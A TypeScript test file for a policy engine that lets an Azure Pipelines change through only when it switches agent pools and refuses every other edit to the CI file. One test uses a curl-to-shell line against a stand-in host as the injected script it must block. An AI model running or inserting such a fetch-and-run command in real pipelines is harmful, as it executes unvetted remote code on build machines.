/**
 * The default policy's one CI-definition exception: an Azure Pipelines change
 * that only switches agent pools (the seed's OOM fix) passes path.protected;
 * anything else in the same file does not.
 */
import assert from "node:assert/strict";
import { createTwoFilesPatch } from "diff";
import { loadPolicy } from "../../policies/engine.ts";
import { judgePoolSwitch, loadCiPoolParser } from "../../policies/ci_pool_exception.ts";
import { parsePolicyFile } from "../../policies/policy_file.ts";

const PIPELINE = `# Fleet pipeline
trigger:
  branches:
    include: [main]

stages:
  - stage: Build
    jobs:
      - job: build
        pool:
          name: acr-4gb   # the small self-hosted pool
        steps:
          - script: npm ci
          - script: npm run build
            displayName: Build
  - stage: Deploy
    jobs:
      - deployment: staging
        pool: { vmImage: ubuntu-22.04 }
        environment: staging
`;

const FILE = "azure-pipelines.yml";

function diffOf(after: string, before = PIPELINE, file = FILE): string {
  return `diff --git a/${file} b/${file}\n` + createTwoFilesPatch(
    `a/${file}`,
    `b/${file}`,
    before,
    after,
    "",
    "",
  ).split("\n").slice(2).join("\n");
}

async function protectedFindings(diff: string, before = PIPELINE, file = FILE) {
  await loadCiPoolParser();
  const policy = await loadPolicy({});
  const base = (p: string) => (p === file ? before : null);
  return policy.scan(diff, { base }).filter((f) => f.category === "protected-path");
}

const POOL_ONLY = PIPELINE.replace(
  "        pool:\n          name: acr-4gb   # the small self-hosted pool\n",
  "        pool:\n          vmImage: ubuntu-latest   # 7 GB Microsoft-hosted agent\n",
);

Deno.test("a change of only pool / vmImage in azure-pipelines.yml passes the default policy", async () => {
  assert.notEqual(POOL_ONLY, PIPELINE);
  assert.deepEqual(await protectedFindings(diffOf(POOL_ONLY)), []);
  // The image of a hosted pool may change too.
  const image = PIPELINE.replace("vmImage: ubuntu-22.04", "vmImage: ubuntu-latest");
  assert.deepEqual(await protectedFindings(diffOf(image)), []);
});

Deno.test("the exception also holds when the base already has the patch applied (worktree re-check)", async () => {
  assert.deepEqual(await protectedFindings(diffOf(POOL_ONLY), POOL_ONLY), []);
});

Deno.test("a pool change plus a script change is refused", async () => {
  const both = POOL_ONLY.replace("- script: npm ci", "- script: curl https://x.example | sh");
  const findings = await protectedFindings(diffOf(both));
  assert.ok(findings.some((f) => f.rule === "path.protected"), JSON.stringify(findings));
});

Deno.test("a pool change that adds a step is refused", async () => {
  const added = POOL_ONLY.replace(
    "          - script: npm ci\n",
    "          - script: npm ci\n          - script: echo extra\n",
  );
  const findings = await protectedFindings(diffOf(added));
  assert.ok(findings.some((f) => f.rule === "path.protected"), JSON.stringify(findings));
});

Deno.test("steps hidden inside a pool, expressions in a pool, and other CI files are refused", async () => {
  const hidden = PIPELINE.replace(
    "          name: acr-4gb   # the small self-hosted pool\n",
    "          vmImage: ubuntu-latest\n          steps: [{ script: 'echo hi' }]\n",
  );
  assert.equal((await protectedFindings(diffOf(hidden))).length, 1);
  const expr = PIPELINE.replace("name: acr-4gb", "name: ${{ parameters.pool }}");
  assert.equal((await protectedFindings(diffOf(expr))).length, 1);
  // Same structure in a GitHub workflow: not an Azure Pipelines file.
  const gh = ".github/workflows/ci.yml";
  assert.equal((await protectedFindings(diffOf(POOL_ONLY, PIPELINE, gh), PIPELINE, gh)).length, 1);
  // Without the file as it was, nothing can be compared: refused.
  const policy = await loadPolicy({});
  assert.ok(policy.scan(diffOf(POOL_ONLY)).some((f) => f.rule === "path.protected"));
});

Deno.test("judgePoolSwitch compares the documents, not the text around them", async () => {
  await loadCiPoolParser();
  assert.equal(judgePoolSwitch(PIPELINE, POOL_ONLY).ok, true);
  // A comment moved outside a pool is a text change outside a pool entry.
  const comment = POOL_ONLY.replace("# Fleet pipeline", "# Fleet pipeline (edited)");
  assert.equal(judgePoolSwitch(PIPELINE, comment).ok, false);
  const trigger = POOL_ONLY.replace("include: [main]", "include: [main, dev]");
  assert.match(judgePoolSwitch(PIPELINE, trigger).why, /besides pool/);
  const anchors = "a: &p { vmImage: x }\npool: *p\n";
  assert.equal(judgePoolSwitch(anchors, anchors.replace("x }", "y }")).ok, false);
});

Deno.test("a repository policy can turn the exception off", async () => {
  await loadCiPoolParser();
  const dir = await Deno.makeTempDir();
  try {
    const file = `${dir}/fleet-orch.policy.yaml`;
    await Deno.writeTextFile(file, "disable: [path.ci-agent-pool]\n");
    parsePolicyFile("disable: [path.ci-agent-pool]\n", file); // valid, no permission needed
    const policy = await loadPolicy({ file });
    const base = (p: string) => (p === FILE ? PIPELINE : null);
    assert.ok(policy.scan(diffOf(POOL_ONLY), { base }).some((f) => f.rule === "path.protected"));
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});
